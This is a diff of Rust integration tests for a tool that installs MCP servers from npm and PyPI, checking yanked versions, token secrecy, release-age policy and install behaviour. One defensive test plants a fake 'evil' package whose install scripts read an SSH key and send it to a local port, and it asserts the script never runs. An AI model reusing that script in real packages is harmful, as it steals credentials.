@@ -8,13 +8,50 @@ use serde_json::{Value, json};
 
 use crate::command::{Ended, Smcp};
 use crate::needs;
-use crate::patience::{PATIENCE, within};
+use crate::patience::{BUILD, PATIENCE, within};
+use crate::place;
+use crate::servers::{NPM_VERSION, PYPI_VERSION, bare_npm, bare_pypi, inspect};
 use crate::stand_in::StandIn;
 use crate::world::{User, World, as_each_user};
 
 as_each_user! {
     npm_is_made_once,
+    pypi_is_made_once,
+    what_a_registry_asks_for_is_shown_to_it_alone,
+    what_is_too_young_is_not_installed,
+    a_script_of_a_package_is_not_run,
+    started_with_what_a_client_passes,
     a_directory_is_made_again_when_it_changes,
+}
+
+/// Real packages by the names that people have for them say what they say bare, to an outside judge.
+#[test]
+fn real_servers_by_their_names() {
+    if !has_npm() {
+        return;
+    }
+    let world = World::new(User::of_the_tests());
+    // The registries of this machine, where it has its own, and one store for all: the base and the runtimes are fetched once.
+    let ways = std::env::vars().filter(|(name, _)| {
+        let name = name.to_ascii_lowercase();
+        ["npm_config_", "pip_", "uv_"].iter().any(|start| name.starts_with(start)) || name.ends_with("_proxy")
+    });
+    let store = ("MCP_CACHE_DIR".to_owned(), place::directory("build-store").display().to_string());
+    let ways: Vec<String> = ways.chain([store]).map(|(name, value)| format!("{name}={value}")).collect();
+    for (reference, bare) in [
+        (format!("npm:@modelcontextprotocol/server-everything@{NPM_VERSION}"), bare_npm("everything")),
+        (format!("pypi:mcp-server-time=={PYPI_VERSION}"), bare_pypi("mcp_server_time")),
+    ] {
+        let smcp = place::smcp().to_str().expect("paths are UTF-8").to_owned();
+        let words = |verb: &str| {
+            let around = [vec!["/usr/bin/env".to_owned()], ways.clone()].concat();
+            [around, vec![smcp.clone(), verb.to_owned(), reference.clone()]].concat()
+        };
+        let pull = words("pull");
+        world.program(&pull[0], &pull[1..]).with_registries().within(BUILD).run().ok();
+        let [without, with] = [bare, words("run")].map(|server| inspect(&world, &server, &["tools/list"]).ok());
+        with.check(with.stdout() == without.stdout(), &format!("bare, the answer was\n{}", without.text()));
+    }
 }
 
 /// How long a first start may take on a busy machine.
@@ -49,6 +86,7 @@ fn npm_is_made_once(world: &World) {
     assert_eq!((of("build: npm").len(), of("npm:@acme/hello").len()), (1, 2), "{begun:#?}");
     let [one, two] = of("npm:@acme/hello")[..] else { unreachable!("there are two") };
     assert_eq!(one["digest"], two["digest"]);
+    assert_eq!((&one["source"]["type"], &one["source"]["ref"]), (&json!("npm"), &json!("@acme/hello@1.0.0")));
     assert!(one["name"].as_str().unwrap().starts_with("npm:@acme/hello@latest?linux/"), "{one}");
     // Another registry is another package.
     let other = StandIn::new();
@@ -59,6 +97,143 @@ fn npm_is_made_once(world: &World) {
         .run()
         .expect(120)
         .explains(&["npm:@acme/else", "the network is off"]);
+}
+
+/// The same with pip; what the index says stands in the package.
+fn pypi_is_made_once(world: &World) {
+    if needs::program("python3", "python3 and python3-pip").is_none() {
+        return;
+    }
+    let index = StandIn::new();
+    index.publish_wheel("hello-py", "1.0", |_| {});
+    index.publish_wheel("hello-py", "1.1", |about| about["yanked"] = json!("it bites"));
+    let first = run(world, &index, &[], &["pypi:Hello_py", "x"]).run().ok();
+    assert_eq!(first.json(), json!(["1.0", "x"]), "what was yanked is not taken");
+    let asked = index.calls().len();
+    assert_eq!(run(world, &index, &[], &["pypi:hello-py"]).run().ok().json(), json!(["1.0"]));
+    assert_eq!(index.calls().len(), asked, "nobody was asked");
+    let pinned = run(world, &index, &[], &["pypi:hello-py==1.1"]).run();
+    pinned.says(&["hello_py 1.1 was yanked by its publisher: it bites"]);
+    assert_eq!(pinned.ok().json(), json!(["1.1"]));
+    let about = world.smcp(["info", "--json", "--runtime", "host", "pypi:hello-py==1.1"]);
+    let about = index.of(about).run().ok().json();
+    let source = &about["manifest"]["source"];
+    assert_eq!(
+        (&source["type"], &source["ref"], &source["yanked"]),
+        (&json!("pypi"), &json!("hello-py==1.1"), &json!("it bites"))
+    );
+    assert!(source["integrity"].as_str().unwrap().starts_with("sha256:"), "{source}");
+    let gone = StandIn::new();
+    gone.publish_wheel("gone", "1", |about| about["yanked"] = json!(true));
+    run(world, &gone, &[], &["pypi:gone"])
+        .run()
+        .expect(121)
+        .explains(&["gone: 1 is yanked by the publisher", "pypi:gone==VERSION"]);
+}
+
+/// A token of `.npmrc` goes to its registry, and neither into the cage of the install nor anywhere where the server or a reader of
+/// logs could find it.
+fn what_a_registry_asks_for_is_shown_to_it_alone(world: &World) {
+    if !has_npm() {
+        return;
+    }
+    let registry = StandIn::new();
+    let says = "#!/usr/bin/env node\nconsole.log(JSON.stringify({said: Object.values(process.env).join(' ')}));\n";
+    registry.publish_as("@acme/secretive", "1.0.0", says, |_, about| {
+        about["deprecated"] = json!("use another");
+        about["dist"] = json!({"attestations": {"provenance": {"predicateType": "https://slsa.dev/provenance/v1"}}});
+    });
+    registry.ask_for("Bearer hunter2");
+    let place = registry.url().replace("http:", "").replace("/npm/", "/npm");
+    let refused = run(world, &registry, &[], &["npm:@acme/secretive"]).run().expect(120);
+    refused.says(&["asks for credentials"]);
+    world.file("home/.npmrc", format!("{place}/:_authToken=${{ACME_TOKEN}}\n"));
+    let known = || run(world, &registry, &["-v"], &["npm:@acme/secretive"]).env("ACME_TOKEN", "hunter2");
+    let first = known().run().ok();
+    first.says(&["@acme/secretive 1.0.0 is deprecated: use another"]);
+    assert!(!first.text().contains("hunter2"), "{}", first.text());
+    assert!(!first.stderr().contains("hunter2") && !world.audit_text().contains("hunter2"));
+    for (path, _) in world.store_listing() {
+        let bytes = fs::read(world.store().join(&path)).unwrap_or_default();
+        assert!(!bytes.windows(7).any(|part| part == b"hunter2"), "{}", path.display());
+    }
+    let about =
+        registry.of(world.smcp(["info", "--json", "--runtime", "host", "npm:@acme/secretive"])).run().ok().json();
+    let source = &about["manifest"]["source"];
+    assert_eq!(source["deprecated"], "use another");
+    assert_eq!(source["provenance"], "https://slsa.dev/provenance/v1");
+    assert_eq!(format!("{}/", source["registry"].as_str().unwrap()), registry.url());
+    assert!(source["integrity"].as_str().unwrap().starts_with("sha512-"), "{source}");
+}
+
+/// `min_release_age`: the newest that is old enough, and no other.
+fn what_is_too_young_is_not_installed(world: &World) {
+    if !has_npm() {
+        return;
+    }
+    let registry = StandIn::new();
+    registry.publish("hello", "1.0.0");
+    let today = jiff::Timestamp::now().to_string();
+    registry.publish_as("hello", "2.0.0", "#!/usr/bin/env node\n", |_, about| about["published"] = json!(today));
+    world.directory("home/.smcp");
+    world.file("home/.smcp/config.yaml", "policy: {min_release_age: 7d}\n");
+    assert_eq!(run(world, &registry, &[], &["npm:hello"]).run().ok().json(), json!(["1.0.0"]));
+    let young = run(world, &registry, &[], &["npm:hello@2.0.0"]).run().expect(121);
+    young.explains(&["hello: 2.0.0 (", "is too young: min_release_age is 7d"]);
+    assert_eq!(registry.count("2.0.0.tgz"), 0);
+    world.file("home/.smcp/config.yaml", "policy: {min_release_age: 10000d}\n");
+    // What the store has by now is as young.
+    let stored = run(world, &registry, &[], &["npm:hello"]).run().expect(121);
+    stored.explains(&["hello@1.0.0 was published 2026-01-02T03:04:05Z", "min_release_age is 10000d"]);
+    run(world, &registry, &["--refresh"], &["npm:hello"]).run().expect(121).explains(&["are too young"]);
+}
+
+/// A postinstall script that reads keys and phones out is not run by the install; in the server it reaches neither.
+fn a_script_of_a_package_is_not_run(world: &World) {
+    if !has_npm() {
+        return;
+    }
+    let door = std::net::TcpListener::bind("127.0.0.1:0").expect("loopback has a free port");
+    let port = door.local_addr().expect("it is bound").port();
+    let key = world.text("home/.ssh/id");
+    let script = format!(
+        "#!/usr/bin/env node\nlet key; try {{ key = require('fs').readFileSync('{key}', 'utf8'); }} catch (e) {{ key = e.code; }}\n\
+         const call = require('net').connect({port}, '127.0.0.1', () => call.end(key));\n\
+         call.on('error', (e) => console.log(JSON.stringify({{said: [key, e.code]}})));\n"
+    );
+    let registry = StandIn::new();
+    registry.publish_as("evil", "1.0.0", &script, |package, _| {
+        package["scripts"] =
+            json!({"preinstall": "node cli.js", "install": "node cli.js", "postinstall": "node cli.js"});
+    });
+    registry.of(world.smcp(["pull", "--runtime", "host", "npm:evil"])).within(FIRST).run().ok();
+    let ran = run(world, &registry, &[], &["npm:evil"]).run().ok();
+    assert_eq!(ran.json(), json!(["ENOENT", "ECONNREFUSED"]));
+    door.set_nonblocking(true).expect("it is a socket");
+    assert!(door.accept().is_err(), "it was reached");
+}
+
+/// HOME, LOGNAME, PATH, SHELL, TERM and USER are all that some clients pass; settings stand in files then.
+fn started_with_what_a_client_passes(world: &World) {
+    if !has_npm() {
+        return;
+    }
+    let registry = StandIn::new();
+    registry.publish("hello", "1.0.0");
+    world.file("home/.npmrc", format!("registry={}\n", registry.url()));
+    let bare = |words: &[&str]| {
+        let mut command = world.smcp(["run", "--runtime", "host"]).args(words).within(FIRST);
+        for (name, _) in world.environment() {
+            if !["HOME", "LOGNAME", "USER"].contains(&name) {
+                command = command.without_env(name);
+            }
+        }
+        command.env("PATH", "/usr/bin:/bin").env("SHELL", "/bin/sh").env("TERM", "dumb")
+    };
+    assert_eq!(bare(&["npm:hello", "a"]).run().ok().json(), json!(["1.0.0", "a"]));
+    let asked = registry.calls().len();
+    assert_eq!(bare(&["npm:hello", "b"]).run().ok().json(), json!(["1.0.0", "b"]));
+    assert_eq!(registry.calls().len(), asked);
 }
 
 /// Twenty first runs at once: one install.
@@ -80,6 +255,27 @@ fn a1_twenty_first_runs_install_once() {
     let builds =
         world.audit().iter().filter(|line| line["event"] == "begin" && line["reference"] == "build: npm").count();
     assert_eq!(builds, 1);
+}
+
+/// A client that has asked is told after eight seconds, and the install goes on for its next try.
+#[test]
+fn a13_a_client_is_told_of_a_long_install() {
+    if !has_npm() {
+        return;
+    }
+    let world = World::new(User::of_the_tests());
+    let registry = StandIn::new();
+    registry.publish("hello", "1.0.0");
+    registry.hold(true);
+    let asked = r#"{"jsonrpc":"2.0","id":7,"method":"initialize","params":{}}"#;
+    let told = run(&world, &registry, &[], &["npm:hello"]).told(asked).expect(120);
+    told.explains(&["npm:hello is being installed", "smcp pull npm:hello"]);
+    let answer = told.json();
+    assert_eq!(answer["id"], 7);
+    assert!(answer["error"]["message"].as_str().unwrap().contains("is being installed"), "{answer}");
+    registry.hold(false);
+    let there = || run(&world, &registry, &["--offline"], &["npm:hello"]).run().code() == 0;
+    assert!(within(FIRST, || there().then_some(())).is_some(), "it is there for the next try");
 }
 
 /// What has no exact version is looked at again when it is old enough: the start that finds it so does not wait.
